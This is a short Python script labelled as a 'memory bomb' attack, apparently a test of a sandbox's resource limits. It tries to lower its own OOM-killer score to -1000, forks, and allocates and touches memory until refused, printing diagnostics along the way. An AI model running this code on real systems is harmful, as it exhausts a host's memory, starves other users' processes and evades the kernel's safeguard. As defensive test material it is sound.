# Attack: memory bomb. The job and a forked child each allocate and touch memory until refused, after
# trying to make the kernel's OOM killer spare them (oom_score_adj -1000).
import os

try:
    fd = os.open("/proc/self/oom_score_adj", os.O_WRONLY)
    os.write(fd, b"-1000")
    print("LOWERED oom_score_adj", flush=True)
except OSError as exc:
    print("BLOCKED oom_score_adj", exc.errno, flush=True)
with open("/proc/self/oom_score_adj") as f:
    print("oom_score_adj", f.read().strip(), flush=True)

children = []
for _ in range(1):
    pid = os.fork()
    if pid == 0:
        break
    children.append(pid)
hog = []
try:
    while True:
        block = bytearray(64 * 1024 * 1024)
        block[::4096] = b"x" * len(block[::4096])  # touch every page: resident, not just mapped
        hog.append(block)
except MemoryError:
    print("MemoryError after", len(hog) * 64, "MiB in", os.getpid(), flush=True)
if not children:
    os._exit(0)
for pid in children:
    os.waitpid(pid, 0)
hog.clear()
#@train
